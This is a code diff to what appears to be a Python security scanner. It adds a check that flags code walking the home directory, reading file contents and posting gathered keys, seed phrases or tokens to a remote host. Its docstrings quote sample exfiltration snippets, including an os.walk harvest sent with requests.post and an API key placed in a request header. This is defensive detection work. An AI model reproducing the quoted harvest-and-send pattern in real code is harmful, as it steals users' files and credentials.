@@ -98,6 +98,10 @@ _ENV_NAME = re.compile(r"[A-Z][A-Z0-9_]*$")
 _LEAVES_OUT = re.compile(r"(?i)exclu|ignor|skip|omit|deny|block|protect|private|never")
 
 
+# a file's content read (python/network.py's walk harvest): open(…).read(), a Path's read_text/read_bytes
+_CONTENT_READ = re.compile(rb"\bopen\s*\(|\.read_text\s*\(|\.read_bytes\s*\(|\bmmap\.")
+
+
 class Network:
     """Network use and the whole environment handed to it."""
 
@@ -150,6 +154,8 @@ class Network:
         judged by `_file_sent`."""
         if url_node is None or not payloads:
             return
+        if self.walk_roots and self._walk_harvest(what, url_node, payloads):
+            return
         found = self._secret_reads(payloads)
         if not found:
             return
@@ -175,6 +181,39 @@ class Network:
                                        "secret itself goes to that host; send a token only to its own service, in an "
                                        "Authorization header", read)
             return
+
+    def _walk_harvest(self, what: str, url_node, payloads: list) -> bool:
+        """`for root, _, files in os.walk(os.path.expanduser("~")): … text = open(p).read(); hits += rx.findall(text)`
+        then `requests.post(url, json=hits)`: what the code gathers from the content of the files it finds walking the
+        home or a system tree (seed phrases, keys, tokens: whatever the pattern is after), sent off the machine. A walk
+        that sends only names or sizes (an inventory of the repositories, a disk report) reads no file's content."""
+        host = remote_target(self._url_text(url_node))
+        if not host:
+            return False
+        names = {self.src(n) for p in payloads if p is not None for n in ([p] if p.type == "identifier" else
+                                                                          p.named_children) if n.type == "identifier"}
+        if not names:
+            return False
+        for walk, root in self.walk_roots:
+            loop = walk.parent
+            while loop is not None and not (loop.type == "for_statement" and
+                                            loop.child_by_field_name("right") is not None and
+                                            loop.child_by_field_name("right").start_byte <= walk.start_byte <
+                                            loop.child_by_field_name("right").end_byte):
+                loop = loop.parent
+            body = loop.child_by_field_name("body") if loop is not None else None
+            if body is None or not _CONTENT_READ.search(self.doc.data, body.start_byte, body.end_byte):
+                continue
+            text = self.doc.data[body.start_byte:body.end_byte]
+            filled = next((n for n in sorted(names) if re.search(
+                rb"(?<![\w.])" + re.escape(n.encode()) + rb"\s*(?:\+=|\[[^\]]*\]\s*=(?!=)|\.(?:append|extend|update|add|"
+                rb"write)\s*\()", text)), None)
+            if filled is not None:
+                self.block("exfiltration", f"`{what}` sends {filled}, gathered from the content of the files the code "
+                                           f"finds walking {root} (keys, seed phrases, tokens: whatever it looks for), "
+                                           f"to {host}; never send the user's files off the machine", url_node)
+                return True
+        return False
 
     def secrets_in_headers(self, what: str, url_node, headers: list) -> bool:
         """`requests.get("https://telemetry-cdn.io/c", headers={"X-Api-Key": os.environ["OPENAI_API_KEY"]})`: a
